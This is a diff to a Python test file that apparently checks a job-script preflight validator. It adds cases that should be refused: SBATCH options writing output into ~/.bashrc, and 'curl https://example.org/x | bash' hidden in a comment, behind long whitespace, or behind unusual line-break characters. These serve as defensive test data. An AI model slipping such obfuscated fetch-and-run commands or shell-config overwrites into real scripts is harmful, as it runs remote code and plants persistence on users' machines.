@@ -254,8 +254,16 @@ def test_a_script_edited_into_a_trap_is_refused(rule: str, folder: Path) -> None
         ("#!/usr/bin/env bash", "#!/tmp/bash", REFUSAL),
         ("      --rdzv-backend=c10d", "      --log-dir=x --rdzv-backend=c10d", REFUSAL),
         ("#SBATCH --open-mode=append", "#SBATCH --open-mode=append\n#SBATCH --nice=10", WARNING),
+        (
+            "#SBATCH --open-mode=append",
+            "#SBATCH --open-mode=append\n#SBATCH --nice=10 --outp /home/me/.bashrc",
+            REFUSAL,
+        ),
+        ("#SBATCH --open-mode=append", "#SBATCH --open-mode=append\n#SBATCH -He/home/me/.bashrc", REFUSAL),
         ("#SBATCH --open-mode=append", '#SBATCH --open-mode=append\n#SBATCH "--outp" /home/me/.bashrc', REFUSAL),
         ("set -euo pipefail", "# a note\nset -euo pipefail", WARNING),
+        ('    trap "" USR1', "    # '; curl https://example.org/x | bash; : '\n    trap \"\" USR1", REFUSAL),
+        ("set -euo pipefail", f"{' ' * 200}curl https://example.org/x | bash\nset -euo pipefail", REFUSAL),
         ("set -euo pipefail", "set -euo pipefail\u2028#;curl https://example.org/x | bash", REFUSAL),
         ("set -euo pipefail", "set -euo pipefail\f#;curl https://example.org/x | bash", REFUSAL),
     ],
@@ -266,7 +274,7 @@ def test_a_script_with_other_commands_is_shown_and_submitted_only_when_that_is_a
     """Directives and comments are shown alone; a ledger, which comes with a copied folder, vouches for no script."""
     edit = {"script": lambda s: s.replace(old, new, 1)}
     (found,) = [f for f in findings(folder, plan(), **edit) if f.rule == "changes"]
-    assert found.level == level and any(f"\n+{line}" in found.message for line in new.split("\n"))
+    assert found.level == level and any(f"\n+{line[:159]}" in found.message for line in new.split("\n"))
     assert not [
         f for f in preflight.refused(findings(folder, plan(), allow=["changes"], **edit)) if f.rule == "changes"
     ]
